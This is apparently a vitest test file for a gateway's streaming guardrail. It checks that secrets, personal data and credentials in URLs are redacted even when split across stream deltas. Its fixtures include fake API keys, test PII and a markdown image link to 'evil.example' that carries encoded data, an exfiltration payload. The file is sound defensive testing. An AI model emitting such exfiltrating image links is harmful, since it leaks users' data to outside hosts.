import { describe, expect, it } from 'vitest';
import { fakes } from '../../rules/secrets/lib/fakes.js';
import { rewrite } from './findings.js';
import { createStreamGuard, guardrailSettingsSchema, PII_CLASSES, type GatewayEndpoint, type GuardrailSettings } from './index.js';
import { editsOf, findInText } from './text.js';

/**
 * A secret or a piece of personal data split across the deltas of a stream, at every position, is
 * redacted before any of it reaches the client: what the client assembles is exactly what the
 * non-streamed guardrails make of the whole answer, for chat completions, completions and the
 * Responses API alike.
 */

const enc = new TextEncoder();
const dec = new TextDecoder();
const all = guardrailSettingsSchema.parse({ pii: { classes: [...PII_CLASSES] } });
const defaults = guardrailSettingsSchema.parse({});

function chatStream(deltas: readonly string[]): string {
  const ev = (delta: Record<string, unknown>, finish: string | null = null) =>
    `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
  return ev({ role: 'assistant', content: '' }) + deltas.map((d) => ev({ content: d })).join('') + ev({}, 'stop') + 'data: [DONE]\n\n';
}

function completionsStream(deltas: readonly string[]): string {
  const ev = (text: string, finish: string | null = null) =>
    `data: ${JSON.stringify({ id: 'cmpl-1', object: 'text_completion', created: 1, model: 'm', choices: [{ index: 0, text, logprobs: null, finish_reason: finish }] })}\n\n`;
  return deltas.map((d) => ev(d)).join('') + ev('', 'stop') + 'data: [DONE]\n\n';
}

function responsesStream(deltas: readonly string[]): string {
  let seq = 0;
  const ev = (type: string, body: Record<string, unknown>) =>
    `event: ${type}\ndata: ${JSON.stringify({ type, sequence_number: seq++, ...body })}\n\n`;
  const text = deltas.join('');
  const message = {
    id: 'msg_1',
    type: 'message',
    status: 'completed',
    role: 'assistant',
    content: [{ type: 'output_text', text, annotations: [] }],
  };
  return (
    ev('response.created', { response: { id: 'resp_1', status: 'in_progress', output: [] } }) +
    ev('response.output_item.added', { output_index: 0, item: { ...message, status: 'in_progress', content: [] } }) +
    deltas.map((delta) => ev('response.output_text.delta', { item_id: 'msg_1', output_index: 0, content_index: 0, delta })).join('') +
    ev('response.output_text.done', { item_id: 'msg_1', output_index: 0, content_index: 0, text }) +
    ev('response.output_item.done', { output_index: 0, item: message }) +
    ev('response.completed', { response: { id: 'resp_1', status: 'completed', output: [message] } })
  );
}

const STREAMS: Record<Exclude<GatewayEndpoint, 'embeddings'>, (deltas: readonly string[]) => string> = {
  'chat.completions': chatStream,
  completions: completionsStream,
  responses: responsesStream,
};

/** The text the client assembles from the deltas it received (Responses: `response.output_text.delta` only). */
function clientText(endpoint: GatewayEndpoint, sse: string): string {
  let text = '';
  for (const raw of sse.split('\n\n')) {
    const data = raw
      .split('\n')
      .filter((l) => l.startsWith('data: '))
      .map((l) => l.slice(6))
      .join('\n');
    if (!data.startsWith('{')) continue;
    const ev = JSON.parse(data) as { type?: string; delta?: string; choices?: Array<{ delta?: { content?: string }; text?: string }> };
    if (endpoint === 'responses') text += ev.type === 'response.output_text.delta' ? (ev.delta ?? '') : '';
    else text += ev.choices?.[0]?.delta?.content ?? ev.choices?.[0]?.text ?? '';
  }
  return text;
}

/** Streams `deltas` through a guard one event per push, as an upstream sends them. */
function stream(endpoint: keyof typeof STREAMS, deltas: readonly string[], settings: GuardrailSettings) {
  const guard = createStreamGuard(endpoint, settings);
  let out = '';
  for (const raw of STREAMS[endpoint](deltas).split(/(?<=\n\n)/)) out += dec.decode(guard.push(enc.encode(raw)));
  out += dec.decode(guard.end());
  return { text: clientText(endpoint, out), guard };
}

const oneShot = (text: string, settings: GuardrailSettings) => rewrite(text, editsOf(findInText(text, settings, true), settings));

const email = 'jane.doe+ops@corp.example.com';
const awsKey = fakes.awsAccessKeyId('split');
const cases: Array<{ name: string; before: string; value: string; after: string; settings: GuardrailSettings }> = [
  { name: 'an email address', before: 'Write to ', value: email, after: ' today.', settings: defaults },
  { name: 'an email address at the start', before: '', value: email, after: ', thanks', settings: defaults },
  { name: 'an AWS access key id', before: 'The key is ', value: awsKey, after: ' (rotate it).', settings: defaults },
  {
    name: 'an AWS secret access key',
    before: 'aws_secret_access_key = ',
    value: fakes.awsSecretKey('split'),
    after: '\nregion = us-east-1',
    settings: defaults,
  },
  { name: 'an OpenAI key', before: 'Use ', value: fakes.openaiProject('split'), after: ' here.', settings: defaults },
  { name: 'a GitHub token', before: 'token: ', value: fakes.githubClassic('split'), after: ' ok', settings: defaults },
  { name: 'a NANP phone number', before: 'Call ', value: '(415) 555-2671', after: ' now.', settings: all },
  { name: 'a NANP phone number with country code', before: 'Call ', value: '+1 415-555-2671', after: ' now.', settings: all },
  { name: 'an E.164 phone number', before: 'Office: ', value: '+44 20 7946 0958', after: '.', settings: all },
  { name: 'a card number', before: 'Card ', value: '4111 1111 1111 1111', after: ' on file.', settings: all },
  { name: 'an IBAN', before: 'Pay to ', value: 'DE89 3704 0044 0532 0130 00', after: ' by Friday.', settings: all },
  { name: 'a US SSN', before: 'SSN ', value: '123-45-6789', after: '.', settings: all },
  { name: 'an IPv4 address', before: 'Host ', value: '203.0.113.42', after: ' is down.', settings: all },
  {
    name: 'a markdown image to a foreign host',
    before: 'See ',
    value: '![chart](https://evil.example/c.png?d=c2VjcmV0)',
    after: ' here',
    settings: defaults,
  },
  {
    name: 'credentials in a URL',
    before: 'Connect to ',
    value: 'postgres://admin:s3cr3tPassw0rd@db.internal:5432/app',
    after: ' now',
    settings: defaults,
  },
];

describe('stream guard: a value split at any position is redacted whole', () => {
  for (const endpoint of Object.keys(STREAMS) as Array<keyof typeof STREAMS>)
    describe(endpoint, () => {
      it.each(cases.map((c) => [c.name, c] as const))('%s, one split at every position', (_name, c) => {
        const text = c.before + c.value + c.after;
        const want = oneShot(text, c.settings);
        expect(want).not.toBe(text);
        for (let i = 1; i < text.length; i++) {
          const { text: got, guard } = stream(endpoint, [text.slice(0, i), text.slice(i)], c.settings);
          expect({ split: i, got }).toEqual({ split: i, got: want });
          expect(guard.decisions.every((d) => !d.detail.includes('already sent'))).toBe(true);
        }
      });

      it.each(cases.map((c) => [c.name, c] as const))('%s, one character per delta', (_name, c) => {
        const text = c.before + c.value + c.after;
        expect(stream(endpoint, [...text], c.settings).text).toBe(oneShot(text, c.settings));
      });
    });

  it('tool-call arguments (chat and Responses), an email address and a key split at every position', () => {
    const args = `{"to": "${email}", "key": "${awsKey}"}`;
    const want = '{"to": "[REDACTED:email]", "key": "[REDACTED:SEC-0005]"}';
    const chatCall = (parts: string[]) =>
      [{ name: 'send', arguments: '' }, ...parts.map((a) => ({ arguments: a }))]
        .map(
          (fn, k) =>
            `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta: { tool_calls: [{ index: 0, ...(k === 0 ? { id: 'call_1', type: 'function' } : {}), function: fn }] }, finish_reason: null }] })}\n\n`,
        )
        .join('') +
      `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta: {}, finish_reason: 'tool_calls' }] })}\n\ndata: [DONE]\n\n`;
    const responsesCall = (parts: string[]) =>
      parts
        .map(
          (delta, i) =>
            `event: response.function_call_arguments.delta\ndata: ${JSON.stringify({ type: 'response.function_call_arguments.delta', sequence_number: i, item_id: 'fc_1', output_index: 0, delta })}\n\n`,
        )
        .join('') +
      `event: response.function_call_arguments.done\ndata: ${JSON.stringify({ type: 'response.function_call_arguments.done', sequence_number: 99, item_id: 'fc_1', output_index: 0, arguments: args })}\n\n`;
    const assembled = (sse: string) => {
      let out = '';
      for (const raw of sse.split('\n\n')) {
        const data = raw.split('\n').find((l) => l.startsWith('data: {'));
        if (!data) continue;
        const ev = JSON.parse(data.slice(6)) as {
          type?: string;
          delta?: string;
          choices?: Array<{ delta?: { tool_calls?: Array<{ function?: { arguments?: string } }> } }>;
        };
        if (ev.type === 'response.function_call_arguments.delta') out += ev.delta ?? '';
        for (const call of ev.choices?.[0]?.delta?.tool_calls ?? []) out += call.function?.arguments ?? '';
      }
      return out;
    };
    for (const [endpoint, make] of [
      ['chat.completions', chatCall],
      ['responses', responsesCall],
    ] as const)
      for (let i = 1; i < args.length; i++) {
        const guard = createStreamGuard(endpoint, defaults);
        let out = '';
        for (const raw of make([args.slice(0, i), args.slice(i)]).split(/(?<=\n\n)/)) out += dec.decode(guard.push(enc.encode(raw)));
        out += dec.decode(guard.end());
        expect({ endpoint, split: i, got: assembled(out) }).toEqual({ endpoint, split: i, got: want });
      }
  });

  it('an email address, two splits at every pair of positions inside it', () => {
    const text = `Write to ${email} today.`;
    const want = oneShot(text, defaults);
    const from = text.indexOf(email);
    for (let i = from; i <= from + email.length; i++)
      for (let j = i + 1; j <= from + email.length + 1; j++)
        expect({ i, j, got: stream('chat.completions', [text.slice(0, i), text.slice(i, j), text.slice(j)], defaults).text }).toEqual({
          i,
          j,
          got: want,
        });
  });
});
